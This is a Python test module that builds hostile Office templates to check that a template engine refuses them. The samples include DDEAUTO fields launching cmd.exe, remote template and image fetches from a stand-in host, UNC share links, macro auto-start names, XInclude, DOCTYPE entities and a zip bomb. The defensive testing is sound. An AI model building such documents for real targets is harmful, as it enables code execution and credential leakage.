"""Templates made to harm whoever opens what is made of them, and what must come of each: a fault's code or an error."""

import io
import os
import zipfile
from functools import partial

from conftest import ROOT
from workbooks import complete, workbook

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
TYPES = "[Content_Types].xml"
WORD = ROOT / "templates" / "rapport.docx"
SLIDES = ROOT / "templates" / "schema.pptx"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
R = f'xmlns:r="{OFFICE}"'
_AWAY = " TargetMode='External'"
BOOK = b"PK\3\4not a workbook"


def parts_of(source):
    with zipfile.ZipFile(source) as file:
        return {name: file.read(name) for name in file.namelist()}


def packed(folder, parts, source=WORD):
    path = folder / f"modele{source.suffix}"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return path


def related(parts, owner, *relations):
    """Add relations (id, type, target, external) to a part, "" for the file as a whole."""
    head, _, own = owner.rpartition("/")
    name = f"{head}/_rels/{own}.rels".lstrip("/")
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    written = "".join(
        f"<Relationship Id='{number}' Type='{kind}' Target='{target}'{_AWAY * away}/>"
        for number, kind, target, away in relations
    )
    content = parts.get(name, empty).replace(b"</Relationships>", written.encode() + b"</Relationships>")
    return {**parts, name: content}


def typed(parts, **types):
    """Add content types by the names of parts, a slash written `__` and a dot `_DOT_`."""
    names = {key.replace("__", "/").replace("_DOT_", "."): kind for key, kind in types.items()}
    lines = "".join(f"<Override PartName='/{name}' ContentType='{kind}'/>" for name, kind in names.items())
    return {**parts, TYPES: parts[TYPES].replace(b"</Types>", lines.encode() + b"</Types>")}


def with_body(parts, xml, name="word/document.xml", before=b"<w:body>"):
    return {**parts, name: parts[name].replace(before, before + xml.encode(), 1)}


def field(instruction):
    return (
        f"<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{instruction}"
        "<w:r><w:fldChar w:fldCharType='separate'/></w:r>"
        "<w:r><w:t>vu</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    )


def code(*pieces):
    return "".join(f"<w:r><w:instrText xml:space='preserve'>{piece}</w:instrText></w:r>" for piece in pieces)


def body_field(inner, folder):
    return packed(folder, with_body(parts_of(WORD), field(inner)))


def field_in(kind, name, folder):
    """Put a field that runs a program into a part of text beside the body."""
    parts = parts_of(WORD)
    root = {"header": "hdr", "footer": "ftr"}.get(kind, kind)
    inner = field(code(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "))
    note = {"endnotes": "endnote", "footnotes": "footnote"}.get(kind)
    inner = f"<w:{note} w:id='7'>{inner}</w:{note}>" if note else inner
    parts[name] = f"<w:{root} {W}>{inner}</w:{root}>".encode()
    kinds = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"
    parts = typed(parts, **{name.replace("/", "__").replace(".", "_DOT_"): kinds})
    return packed(folder, related(parts, "word/document.xml", ("rIdX9", f"{OFFICE}/{kind}", f"/{name}", False)))


def picture_outside(folder, target="http://192.0.2.1/x.png"):
    drawn = f"<w:pict {VML} {R}><v:shape style='width:9pt'><v:imagedata r:id='rIdX9'/></v:shape></w:pict>"
    parts = with_body(parts_of(WORD), f"<w:p><w:r>{drawn}</w:r></w:p>")
    return packed(folder, related(parts, "word/document.xml", ("rIdX9", f"{OFFICE}/image", target, True)))


def theme_outside(folder):
    parts = related(parts_of(SLIDES), "ppt/theme/theme1.xml", ("rIdX9", f"{OFFICE}/image", r"\\192.0.2.1\x.png", True))
    return packed(folder, parts, SLIDES)


def vml(attribute, folder):
    drawn = f"<w:p><w:r><w:pict {VML}><v:shape {attribute} style='width:9pt'/></w:pict></w:r></w:p>"
    return packed(folder, with_body(parts_of(WORD), drawn))


def styled(folder):
    drawn = f"<w:p><w:r><w:pict {VML}><v:shape style='width:9pt;behavior:u\\72 l(a)'/></w:pict></w:r></w:p>"
    return packed(folder, with_body(parts_of(WORD), drawn))


def workbook_in(folder, name="word/embeddings/a.xlsm"):
    """Embed a workbook with macros by the relation that charts have to theirs."""
    inner = f"<w:p><w:r><w:object {R}><o:OLEObject {VML} r:id='rIdX9'/></w:object></w:r></w:p>"
    parts = {**with_body(parts_of(WORD), inner), name: BOOK}
    parts = typed(parts, word__embeddings__a_DOT_xlsm="application/vnd.ms-excel.sheet.macroEnabled.12")
    return packed(folder, related(parts, "word/document.xml", ("rIdX9", f"{OFFICE}/package", f"/{name}", False)))


def task_pane(folder):
    parts = {**parts_of(WORD), "word/webextensions/taskpanes.xml": b"<a/>"}
    kind = f"{MICROSOFT}/2011/relationships/webextensiontaskpanes"
    return packed(folder, related(parts, "", ("rIdX9", kind, "word/webextensions/taskpanes.xml", False)))


def control_on_notes(folder):
    parts = {**parts_of(SLIDES), "ppt/activeX/a.xml": b"<a/>"}
    notes = ("rIdX9", f"{OFFICE}/control", "/ppt/activeX/a.xml", False)
    return packed(folder, related(parts, "ppt/notesMasters/notesMaster1.xml", notes), SLIDES)


def clicked(action, folder):
    """Let a click on a shape of a layout start something."""
    name = "ppt/slideLayouts/slideLayout1.xml"
    content = parts_of(SLIDES)[name].decode()
    click = f"<a:hlinkClick {R} r:id='' action='{action}'/></p:cNvPr>"
    start, _, rest = content.partition("<p:cNvPr ")
    shape, _, after = content[len(start) :].partition("/>")
    assert rest
    return packed(folder, {**parts_of(SLIDES), name: f"{start}{shape}>{click}{after}".encode()}, SLIDES)


def doctype(encoding, folder):
    content = parts_of(WORD)["word/styles.xml"].decode().partition("?>")[2]
    head = f"<?xml version='1.0' encoding='{encoding}'?><!DOCTYPE a [<!ENTITY b 'c'>]>"
    return packed(folder, {**parts_of(WORD), "word/styles.xml": (head + content).encode(encoding)})


def exchanged(one, other, folder):
    parts = parts_of(WORD)
    return packed(folder, {**parts, one: parts[other], other: parts[one]})


def without(name, source, folder):
    return packed(folder, {each: content for each, content in parts_of(source).items() if each != name}, source)


def torn(name, content, folder):
    return packed(folder, {**parts_of(WORD), name: content})


def bad_bytes(at, folder):
    """Spoil the packed bytes of a picture that nothing uses."""
    path = packed(folder, {**parts_of(WORD), "word/media/z.png": os.urandom(900)})
    content = bytearray(path.read_bytes())
    start = content.index(b"word/media/z.png") + len("word/media/z.png")
    content[start + at : start + at + 40] = bytes(40)
    path.write_bytes(content)
    return path


def linked(address, folder):
    parts = with_body(parts_of(WORD), f"<w:p><w:hyperlink {R} r:id='rIdX9'><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>")
    return packed(folder, related(parts, "word/document.xml", ("rIdX9", f"{OFFICE}/hyperlink", address, True)))


def settled(xml, folder, *relations):
    """Say something more in the settings."""
    name = "word/settings.xml"
    head, start, rest = parts_of(WORD)[name].partition(b"<w:settings")
    own, end, rest = rest.partition(b">")
    parts = {**parts_of(WORD), name: head + start + own + end + xml.encode() + rest}
    return packed(folder, related(parts, name, *relations))


def drawn(picture, folder, *relations, inside=""):
    """Draw a picture in the body; its own bytes are at rIdX8."""
    space = "http://schemas.openxmlformats.org/drawingml/2006"
    body = (
        f"<w:p><w:r><w:drawing><wp:inline xmlns:wp='{space}/wordprocessingDrawing' xmlns:a='{space}/main'>"
        "<wp:extent cx='9000' cy='9000'/>"
        f"<wp:docPr id='7' name='a'>{inside}</wp:docPr><a:graphic>"
        f"<a:graphicData uri='{space}/picture'><pic:pic xmlns:pic='{space}/picture'><pic:nvPicPr><pic:cNvPr id='0' "
        f"name='a'/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>{picture}</pic:blipFill><pic:spPr/></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    parts = {**with_body(parts_of(WORD), body), "word/media/a.png": bytes.fromhex("89504E470D0A1A0A")}
    parts = typed(parts, word__media__a_DOT_png="image/png")
    image = ("rIdX8", f"{OFFICE}/image", "media/a.png", False)
    return packed(folder, related(parts, "word/document.xml", image, *relations))


def other_case(folder):
    relation = ("rIdX9", f"{OFFICE}/IMAGE", "http://192.0.2.1/a.png", True)
    return drawn(f"<a:blip {R} r:link='rIdX9'/>", folder, relation)


def merged_by_post(folder):
    query = "<w:mailMerge><w:mainDocumentType w:val='catalog'/><w:connectString w:val='192.0.2.1'/></w:mailMerge>"
    return settled(query, folder)


def template_elsewhere(folder):
    relation = ("rIdX9", f"{OFFICE}/attachedTemplate", "http://192.0.2.1/a.dotm", True)
    return settled(f"<w:attachedTemplate {R} r:id='rIdX9'/>", folder, relation)


def font_elsewhere(folder):
    relation = ("rIdX9", f"{OFFICE}/font", "http://192.0.2.1/a.odttf", True)
    return packed(folder, related(parts_of(WORD), "word/fontTable.xml", relation))


def of_another_program(folder):
    include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://192.0.2.1/'/>"
    return packed(folder, with_body(parts_of(WORD), include))


def video_of_the_web(folder):
    video = "http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"
    inside = f"<b:webVideoPr xmlns:b='{video}' embeddedHtml='http://192.0.2.1/'/>"
    inside = f"<a:extLst><a:ext uri='a'>{inside}</a:ext></a:extLst>"
    return drawn(f"<a:blip {R} r:embed='rIdX8'/>", folder, inside=inside)


def letters_of_the_web(folder):
    """Let a picture of points have the same one as drawn letters elsewhere."""
    svg = "<a:svgBlip xmlns:a='http://schemas.microsoft.com/office/drawing/2016/SVG/main' r:link='rIdX9'/>"
    blip = f"<a:blip {R} r:embed='rIdX8'><a:extLst><a:ext uri='a'>{svg}</a:ext></a:extLst></a:blip>"
    return drawn(blip, folder, ("rIdX9", f"{OFFICE}/image", "http://192.0.2.1/a.svg", True))


def macro_behind_a_chart(folder):
    """Put a name that starts a macro into the workbook behind a chart."""
    with zipfile.ZipFile(workbook(folder, complete())) as book:
        inner = {name: book.read(name) for name in book.namelist()}
    name = b"</sheets><definedNames><definedName name='Auto_Open' xlm='1'>A!A1</definedName></definedNames>"
    inner["xl/workbook.xml"] = inner["xl/workbook.xml"].replace(b"</sheets>", name, 1)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        for each, content in inner.items():
            file.writestr(each, content)
    return charted(stream.getvalue(), folder)


def charted(book, folder):
    """Put a workbook behind a chart of the body."""
    chart = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    drawn = "application/vnd.openxmlformats-officedocument"
    parts = {
        **parts_of(WORD),
        "word/charts/c.xml": f"<c:chartSpace xmlns:c='{chart}' {R}><c:externalData r:id='b'/></c:chartSpace>".encode(),
        "word/embeddings/b.xlsx": book,
    }
    parts = typed(
        parts,
        word__charts__c_DOT_xml=f"{drawn}.drawingml.chart+xml",
        word__embeddings__b_DOT_xlsx=f"{drawn}.spreadsheetml.sheet",
    )
    parts = related(parts, "word/charts/c.xml", ("b", f"{OFFICE}/package", "/word/embeddings/b.xlsx", False))
    return packed(folder, related(parts, "word/document.xml", ("rIdX9", f"{OFFICE}/chart", "charts/c.xml", False)))


def said(text, folder):
    return packed(folder, with_body(parts_of(WORD), f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"))


def repeated(xml, times, folder):
    return packed(folder, with_body(parts_of(WORD), xml * times))


def bomb_behind_a_chart(folder):
    """Put a workbook that unpacks to 60 MB behind a chart."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("xl/workbook.xml", bytes(60_000_000))
    return charted(stream.getvalue(), folder)


def pipe(folder):
    os.mkfifo(folder / "modele.docx")
    return folder / "modele.docx"


def device(folder):
    (folder / "modele.docx").symlink_to("/dev/zero")
    return folder / "modele.docx"


LONG = "a" * 9_000_000
NESTED = "{{ (" + "(" * 200 + "projet.titre" + ")" * 200 + ") }}"
INNER_NAME = field(
    code(" ") + field(code(" QUOTE 68 68 69 ")).removeprefix("<w:p>").removesuffix("</w:p>") + code(" cmd ")
)

CONDITION = "<w:p><w:r><w:t>{%p if projet.but %}</w:t></w:r></w:p>"
CLOSED = "<w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p>"
MARKED = f"<w:p><w:bookmarkStart w:id='1' w:name='{LONG[:90_000]}'/></w:p>"

REFUSED = {
    # what is fetched from elsewhere
    "a picture of the web": (picture_outside, "M10"),
    "a picture of a share": (partial(picture_outside, target=r"\\192.0.2.1\x.png"), "M10"),
    "a theme's picture": (theme_outside, "M10"),
    "a link of an old drawing": (partial(vml, "href='file:///c:/a.exe'"), "M10"),
    "a source of an old drawing": (partial(vml, "src='http://192.0.2.1/a'"), "M10"),
    "a style that calls, in numbers": (styled, "M10"),
    "a link to a share": (partial(body_field, code(' HYPERLINK "\\\\\\\\192.0.2.1\\\\x" ')), "M10"),
    "a link without quotes": (partial(body_field, code(" HYPERLINK file:///c:/a.exe ")), "M10"),
    "a link with curly quotes": (partial(body_field, code(" HYPERLINK “file:///c:/a.exe” ")), "M10"),
    "a link behind a switch": (partial(body_field, code(' HYPERLINK \\o "https://a.org" "javascript:a" ')), "M10"),
    "a link that hides its place": (partial(linked, "https://a.org\\@192.0.2.1/"), "M10"),
    "a letter that takes a file along": (partial(linked, "mailto:a@b.org?attach=c:/a"), "M10"),
    "a link that searches": (partial(linked, "search-ms:query=a"), "M10"),
    "a relation of another case": (other_case, "M10"),
    # what runs
    "a program in an endnote": (partial(field_in, "endnotes", "word/endnotes.xml"), "M11"),
    "a program in a footnote": (partial(field_in, "footnotes", "word/footnotes.xml"), "M11"),
    "a program in a header": (partial(field_in, "header", "word/header9.xml"), "M11"),
    "a field in pieces": (partial(body_field, code("DDE", "AUTO cmd")), "M11"),
    "a field of small letters": (partial(body_field, code(" includepicture a ")), "M11"),
    "a field stored as text": (partial(body_field, code(" ") + "<w:r><w:t>DDEAUTO cmd</w:t></w:r>"), "M11"),
    "a field that another names": (lambda folder: packed(folder, with_body(parts_of(WORD), INNER_NAME)), "M11"),
    "a field nobody knows": (partial(body_field, code(" XYZZY a ")), "M11"),
    "a workbook with macros": (workbook_in, "M11"),
    "a control on the notes master": (control_on_notes, "M11"),
    # what is damaged, or is none
    "two parts exchanged": (partial(exchanged, "word/styles.xml", "word/settings.xml"), "template-damaged"),
    "a layout missing": (partial(without, "ppt/slideLayouts/slideLayout3.xml", SLIDES), "template-damaged"),
    "a part cut": (partial(torn, "word/numbering.xml", b"<w:numbering"), "template-damaged"),
    "a part of bytes": (partial(torn, "word/styles.xml", bytes(range(256))), "template-damaged"),
    "a bomb behind a chart": (bomb_behind_a_chart, "template-damaged"),
    "a picture's bytes spoilt": (partial(bad_bytes, 20), "template-damaged"),
    "a DOCTYPE": (partial(doctype, "utf-8"), "template-unsafe-contents"),
    "a DOCTYPE in UTF-16": (partial(doctype, "utf-16"), "template-unsafe-contents"),
    "a DOCTYPE in Latin letters": (partial(doctype, "iso-8859-1"), "template-unsafe-contents"),
    # what is without end
    "brackets in brackets": (partial(said, NESTED), "M2"),
    "dots without end": (partial(said, "{{ projet" + ".projet" * 4_000 + " }}"), "M2"),
    "braces that never close": (partial(said, "{{ " * 30_000), "M12"),
    "conditions in conditions": (partial(repeated, CONDITION * 400 + CLOSED * 400, 1), "M12"),
    "one long text": (partial(said, LONG), "template-unsafe-size"),
    "one long attribute": (partial(repeated, MARKED, 1), "template-unsafe-size"),
    "many paragraphs": (partial(repeated, "<w:p/>", 60_000), "template-unsafe-size"),
    "a pipe": (pipe, "template-unreadable"),
    "a device": (device, "template-unreadable"),
}

LEFT_OUT = {
    "a task pane": (task_pane, b"webextension"),
    "a click that starts a program": (partial(clicked, "ppaction://program"), b"ppaction"),
    "a video of the web": (video_of_the_web, b"webVideoPr"),
    "a drawing of the web beside its points": (letters_of_the_web, b"192.0.2.1"),
    "a font of the web": (font_elsewhere, b"192.0.2.1"),
    "a template of the web": (template_elsewhere, b"192.0.2.1"),
    "a letter to many": (merged_by_post, b"mailMerge"),
    "another program's markup": (of_another_program, b"XInclude"),
    "a macro behind a chart": (macro_behind_a_chart, b"Auto_Open"),
    "a click that runs a macro": (partial(clicked, "ppaction://macro?name=a"), b"ppaction"),
}
